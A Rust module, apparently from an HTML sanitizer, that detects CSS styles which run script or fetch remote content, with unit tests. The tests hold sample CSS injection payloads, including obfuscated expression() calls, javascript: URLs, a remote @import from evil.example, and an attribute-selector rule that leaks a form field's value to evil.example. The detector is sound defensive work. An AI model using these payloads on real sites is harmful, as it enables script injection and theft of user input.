//! Styles that run or fetch.

use super::super::ascii;

/// What a style does besides looking good; `None` for ordinary style. Escapes and comments are undone as CSS does. O(n).
pub(super) fn read(style: &[u8]) -> Option<&'static str> {
    let plain = plain(style);
    let has = |word: &[u8]| ascii::find(&plain, word).is_some();
    if has(b"expression(") && !has(b"regular expression(") {
        return Some("an expression() that is script");
    }
    if has(b"javascript:") || has(b"vbscript:") {
        return Some("a script URL in a style");
    }
    if has(b"-moz-binding:") {
        return Some("a binding, which is script");
    }
    if has(b"behavior:url") || has(b"behaviour:url") {
        return Some("a behaviour, which is script");
    }
    if has(b"-o-link:") {
        return Some("a link in a style");
    }
    if has(b"@import'//")
        || has(b"@import\"//")
        || has(b"@importurl(//")
        || has(b"@import'http")
        || has(b"@import\"http")
        || has(b"@importurl(http")
        || has(b"@importurl('http")
        || has(b"@importurl(\"http")
        || has(b"@import//")
    {
        return Some("the import of a remote style");
    }
    // `input[value^=a]{background:url(//..)}` tells a value letter by letter.
    if has(b"url(") && (has(b"[value^=") || has(b"[value*=") || has(b"[value$=") || has(b"[value=")) {
        return Some("a style that fetches by a field's value");
    }
    None
}

/// Without escapes, comments and blanks.
fn plain(style: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(style.len());
    let mut at = 0;
    let last_end = memchr::memmem::rfind(style, b"*/").unwrap_or(0);
    while at < style.len() {
        let rest = &style[at..];
        if rest.starts_with(b"/*") {
            // A comment that is never closed is read as if it were not one.
            at += if at < last_end { memchr::memmem::find(rest, b"*/").map_or(2, |end| end + 2) } else { 2 };
        } else if rest[0] == b'\\' {
            let digits = rest[1..].iter().take(6).take_while(|byte| byte.is_ascii_hexdigit()).count();
            if digits >= 2 {
                let text = std::str::from_utf8(&rest[1..1 + digits]).expect("hexadecimal digits are ASCII");
                let code = u32::from_str_radix(text, 16).expect("at most six digits");
                out.extend(u8::try_from(code).ok().filter(u8::is_ascii));
                at += 1 + digits + usize::from(rest.get(1 + digits) == Some(&b' '));
            } else {
                at += 1;
            }
        } else {
            if !rest[0].is_ascii_whitespace() && rest[0] != 0 {
                out.push(rest[0]);
            }
            at += 1;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn styles_that_run_are_told_from_styles() {
        for style in [
            "width:expression(alert(1))",
            "xss:expressio\\6e(alert(1))",
            "xss:expressio\\00006e (alert(1))",
            "ex/**/pression(1)",
            "@im\\port'\\ja\\vasc\\ript:alert(1)'",
            "background:url('javascript:alert(1)')",
            "behavior: url(x.htc);",
            "@import '//evil.example/x.css'",
            "input[value^=a]{background:url(//evil.example/a)}",
        ] {
            assert!(read(style.as_bytes()).is_some(), "{style}");
        }
        for style in [
            "color:#ff0000;font-family:Arial",
            "background:url(/a.png)",
            "@import 'a.css'",
            "width:calc(1px + 2px)",
        ] {
            assert_eq!(read(style.as_bytes()), None, "{style}");
        }
    }
}
